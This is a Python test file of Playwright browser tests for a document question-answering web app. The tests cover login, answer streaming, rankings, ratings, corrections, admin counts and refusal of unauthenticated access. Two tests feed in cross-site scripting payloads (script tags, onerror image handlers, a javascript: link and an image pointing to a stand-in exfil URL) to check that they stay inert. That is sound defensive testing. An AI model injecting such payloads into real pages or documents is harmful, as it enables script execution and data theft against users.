"""The app in a real browser (Debian's Chromium driven by Playwright), as a person uses it.

A user logs in, asks, watches the answer stream in and the sources panel name the right file, compares two
alternatives, ranks them, gives a thumbs-up under the answer and writes a correction, each confirmed with ✅; the user never sees
the admin panel. An admin (a separate browser context: separate cookies) sees the counts. The store then holds
all of it attributed to the user. A second test ingests a hostile document and checks that nothing in it runs,
renders as HTML or fetches a URL. Screenshots of each step go to test-artifacts/browser/<test>/.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.auth import Users
from app.config import AppConfig
from app.services import Services
from app.ui import launch
from benchmarks.load import DOCS, free_port
from model_store.registry import ModelRegistry
from retrieval.embedder import HashEmbedder
from retrieval.ingest import ingest
from tests.e2e.waits import wait_for_text

QUESTION = "When did the Zorbium Tower open?"
CORRECTION = "The Zorbium Tower opened on 14 March 1893 [1]."
XSS_DOC = (
    "Velmora lighthouse keeper notes. <script>window.__xss=1</script> "
    '<img src=x onerror="window.__xss=2"> [click](javascript:window.__xss=3) '
    "![t](http://127.0.0.1:9/exfil?d=secret) The Velmora lighthouse lamp is lit at dusk."
)
TABLE_DOC = (
    "# Lumora beacon settings\n\nThe Lumora beacon reads these settings at start.\n\n"
    "| key | default | meaning |\n|---|---|---|\n"
    "| lumora_port | 7861 | the port of the Lumora beacon |\n"
    '| lumora_hint | <img src=z onerror="window.__xss=5"> | a hostile cell |\n'
)
TABLE_QUESTION = "Which port does the Lumora beacon use?"
TIMEOUT_MS = 60_000
# Records every text the last assistant message shows, so the test can see the answer grow (streaming).
WATCH_STREAM = """
window.__answerTexts = [];
new MutationObserver(() => {
  const bots = document.querySelectorAll('[data-testid="bot"]');
  if (!bots.length) return;
  const text = bots[bots.length - 1].innerText;
  const seen = window.__answerTexts;
  if (seen[seen.length - 1] !== text) seen.push(text);
}).observe(document, {subtree: true, childList: true, characterData: true});
"""


@pytest.fixture
def app_url(ragqa_home: Path, tiny_llama_dir: Path, tmp_path: Path) -> Iterator[tuple[str, Services]]:
    """The app on 127.0.0.1 in this process: tiny random Llama, hash embedder, 4 docs, alice (admin) and bob."""
    ModelRegistry(ragqa_home / "models").publish_folder(tiny_llama_dir, {"kind": "base"})
    # A strong repetition penalty makes the random model's greedy answer visible words (without it: newlines).
    cfg = AppConfig.load(max_new_tokens=12, repetition_penalty=3.0, port=free_port(), host="127.0.0.1")
    docs = tmp_path / "docs"
    for rel, text in {**DOCS, "notes/velmora.md": XSS_DOC, "notes/lumora.md": TABLE_DOC}.items():
        (docs / rel).parent.mkdir(parents=True, exist_ok=True)
        (docs / rel).write_text(text, encoding="utf-8")
    ingest(docs, cfg.paths.index_dir, HashEmbedder(), progress=False)
    users = Users(ragqa_home / "users.json")
    users.add("alice", "alice-password", "admin")
    users.add("bob", "bob-password-1", "user")
    services = Services(cfg, embedder=HashEmbedder())
    demo, url = launch(services, prevent_thread_lock=True, users=users)
    try:
        yield url, services
    finally:
        demo.close()
        services.close()


def _login(browser: object, url: str, name: str, password: str, requests: list[str] | None = None) -> object:
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    context.set_default_timeout(TIMEOUT_MS)
    page = context.new_page()
    if requests is not None:
        page.on("request", lambda r: requests.append(r.url))
    page.add_init_script(WATCH_STREAM)
    page.goto(url)
    page.locator("input[type=text]").first.fill(name)
    page.locator("input[type=password]").fill(password)
    page.get_by_role("button", name="Login").click()
    page.get_by_placeholder("Ask a question about your documents…").wait_for()
    return page


def _ask(page: object, question: str) -> None:
    page.evaluate("window.__answerTexts = []")
    box = page.get_by_placeholder("Ask a question about your documents…")
    box.fill(question)
    box.press("Enter")
    page.get_by_text(re.compile(r"Answered in [\d.]+ s")).wait_for()


def _status(page: object, pattern: str) -> str:
    """Wait for a status line matching `pattern`; return its text."""
    return wait_for_text(page, pattern)


def test_user_asks_compares_ranks_rates_corrects_and_admin_sees_counts(
    chromium: object, app_url: tuple[str, Services], artifacts: Path
) -> None:
    url, services = app_url
    page = _login(chromium, url, "bob", "bob-password-1")
    page.screenshot(path=artifacts / "01-logged-in.png", full_page=True)
    # A user does not get the admin panel (the server also refuses its endpoints: tests/app/test_ui_access.py).
    assert (
        page.get_by_text("Admin: feedback, model").count() == 0
        or not page.get_by_text("Admin: feedback, model").first.is_visible()
    )

    _ask(page, QUESTION)
    page.screenshot(path=artifacts / "02-answered.png", full_page=True)
    texts = [t.strip() for t in page.evaluate("window.__answerTexts") if t.strip() not in ("", "…")]
    # The answer grew in place: the bubble showed longer and longer beginnings of the final answer.
    assert len(texts) >= 3, texts
    assert all(len(a) < len(b) for a, b in zip(texts, texts[1:], strict=False)), texts
    assert texts[0].split()[0] == texts[-1].split()[0], texts
    chat = page.locator('[data-testid="user"]')
    assert QUESTION in chat.last.inner_text()
    sources = page.get_by_text("[1] kelvale/tower.md")
    assert sources.count() >= 1 and sources.first.is_visible()
    assert page.get_by_text("Model: v0001").count() >= 1

    page.get_by_text("Compare more alternatives and rank them").click()
    page.get_by_role("button", name="Get alternatives").click()
    _status(page, r"^2 alternatives: rank them below\.")
    assert page.get_by_text(re.compile(r"^A$")).count() >= 1 or page.locator("strong", has_text="A").count()
    page.screenshot(path=artifacts / "03-alternatives.png", full_page=True)

    page.get_by_label("A is better").check()
    page.get_by_role("button", name="Save ranking").click()
    _status(page, r"✅ ranking saved \(#\d+\)")  # the status line (the toast says the same without ✅)
    page.screenshot(path=artifacts / "04-ranked.png", full_page=True)

    page.get_by_role("button", name="Like", exact=True).last.click()  # the 👍 under the answer
    _status(page, r"✅ 👍 saved")
    page.screenshot(path=artifacts / "05-rated.png", full_page=True)

    page.get_by_text("Write a better answer").click()
    page.get_by_label("Your answer (cite passages as [1], [2]…)").fill(CORRECTION)
    page.get_by_role("button", name="Save my answer").click()
    _status(page, r"✅ your answer is saved as an example of a good answer \(#\d+\)")
    page.screenshot(path=artifacts / "06-corrected.png", full_page=True)
    assert (
        page.get_by_text("Admin: feedback, model").count() == 0
        or not page.get_by_text("Admin: feedback, model").first.is_visible()
    )
    page.context.close()

    admin = _login(chromium, url, "alice", "alice-password")
    admin.get_by_text("Admin: feedback, model versions, documents").click()
    admin.get_by_role("button", name="Refresh counts").click()
    table = admin.locator("table", has_text="interactions")
    table.wait_for()
    counts = {
        row.locator("td").nth(0).inner_text(): row.locator("td").nth(1).inner_text()
        for row in table.locator("tbody tr").all()
    }
    admin.screenshot(path=artifacts / "07-admin-counts.png", full_page=True)
    assert counts["interactions"] == "1" and counts["candidates"] == "3", counts
    assert counts["rankings"] == "1" and counts["ratings_up"] == "1" and counts["corrections"] == "1", counts
    assert admin.get_by_text("v0001 (current)").count() >= 1
    admin.context.close()

    # The store holds what the browser showed, attributed to the logged-in user.
    (rec,) = list(services.store.iter_interactions())
    assert rec.question == QUESTION and rec.user == "bob"
    assert rec.candidates[0].text.split()[0] in texts[-1]  # the streamed answer is the one recorded
    assert [c.label for c in rec.candidates] == ["answer", "A", "B"]
    (ranking,) = rec.rankings
    assert ranking.user == "bob" and ranking.order == ((rec.candidates[1].id,), (rec.candidates[2].id,))
    (rating,) = rec.ratings
    assert rating.user == "bob" and rating.up and not rating.withdrawn
    assert rating.candidate_id == rec.candidates[0].id
    (correction,) = rec.corrections
    assert correction.user == "bob" and correction.text == CORRECTION


def test_hostile_document_is_inert_in_the_browser(
    chromium: object, app_url: tuple[str, Services], artifacts: Path
) -> None:
    url, _services = app_url
    requests: list[str] = []
    page = _login(chromium, url, "bob", "bob-password-1", requests)
    # The question carries a payload too: the chat shows it as text.
    _ask(page, 'What are the Velmora lighthouse keeper notes? <img src=y onerror="window.__xss=4">')
    page.get_by_text("[1] notes/velmora.md").first.wait_for()
    page.wait_for_timeout(500)  # give a payload, if any were live, the time to run and fetch
    page.screenshot(path=artifacts / "01-hostile-sources.png", full_page=True)

    assert page.evaluate("typeof window.__xss") == "undefined"
    # The payloads are visible as text ...
    body = page.inner_text("body")
    assert "<script>window.__xss=1</script>" in body and 'onerror="window.__xss=2"' in body
    # ... and none of them is an element or a live link.
    scripts = page.eval_on_selector_all("script", "els => els.map(e => e.textContent)")
    assert not [s for s in scripts if "__xss" in s]
    images = page.eval_on_selector_all("img", "els => els.map(e => e.getAttribute('src') || '')")
    assert not [src for src in images if src in ("x", "y") or "exfil" in src or ":9/" in src], images
    hrefs = page.eval_on_selector_all("a", "els => els.map(e => e.getAttribute('href') || '')")
    assert not [h for h in hrefs if h.lower().startswith("javascript:")], hrefs
    assert not [r for r in requests if "127.0.0.1:9/" in r or "exfil" in r], requests
    assert any(r.startswith(url) for r in requests)  # the listener did see the page's own requests
    page.context.close()


def test_document_headings_do_not_render_as_headings_in_sources(
    chromium: object, app_url: tuple[str, Services], artifacts: Path
) -> None:
    url, _services = app_url
    page = _login(chromium, url, "bob", "bob-password-1")
    _ask(page, QUESTION)
    page.get_by_text("[1] kelvale/tower.md").first.wait_for()
    page.screenshot(path=artifacts / "01-sources.png", full_page=True)
    # kelvale/tower.md starts with "# The Zorbium Tower": text, not a heading, in the sources panel.
    assert page.locator("blockquote h1, blockquote h2").count() == 0
    page.context.close()


def test_a_table_in_a_document_opens_as_a_table_with_inert_cells(
    chromium: object, app_url: tuple[str, Services], artifacts: Path
) -> None:
    url, _services = app_url
    page = _login(chromium, url, "bob", "bob-password-1")
    _ask(page, TABLE_QUESTION)
    summary = page.locator("details summary", has_text="notes/lumora.md").first
    summary.click()  # the passage under the answer opens on click
    table = page.locator("table.source-table").first
    table.wait_for()
    page.screenshot(path=artifacts / "01-table-opened.png", full_page=True)
    assert [th.inner_text() for th in table.locator("thead th").all()] == ["key", "default", "meaning"]
    rows = [[td.inner_text() for td in tr.locator("td").all()] for tr in table.locator("tbody tr").all()]
    assert rows[0] == ["lumora_port", "7861", "the port of the Lumora beacon"], rows
    assert rows[1][1] == '<img src=z onerror="window.__xss=5">', rows  # shown as text, not an element
    assert page.evaluate("typeof window.__xss") == "undefined"
    first_cell = table.locator("td").first
    assert first_cell.evaluate("e => getComputedStyle(e).whiteSpace") == "nowrap"  # the page's CSS is on
    page.context.close()


def test_visitor_without_login_sees_only_the_login_form(
    chromium: object, app_url: tuple[str, Services], artifacts: Path
) -> None:
    url, services = app_url
    context = chromium.new_context(viewport={"width": 1280, "height": 700})
    page = context.new_page()
    page.goto(url)
    page.get_by_role("button", name="Login").wait_for()
    page.screenshot(path=artifacts / "01-login-form.png")
    assert page.get_by_placeholder("Ask a question about your documents…").count() == 0
    # The app's config and its API refuse a browser without the login cookie; a wrong password stays out.
    assert page.request.get(f"{url}config").status == 401
    assert page.request.post(f"{url}gradio_api/call/stats", data={"data": []}).status in (401, 403)
    page.locator("input[type=text]").first.fill("bob")
    page.locator("input[type=password]").fill("wrong-password")
    page.get_by_role("button", name="Login").click()
    page.get_by_text(re.compile("Incorrect Credentials", re.IGNORECASE)).wait_for()
    page.screenshot(path=artifacts / "02-wrong-password.png")
    assert page.get_by_placeholder("Ask a question about your documents…").count() == 0
    assert services.store.stats()["interactions"] == 0
    context.close()
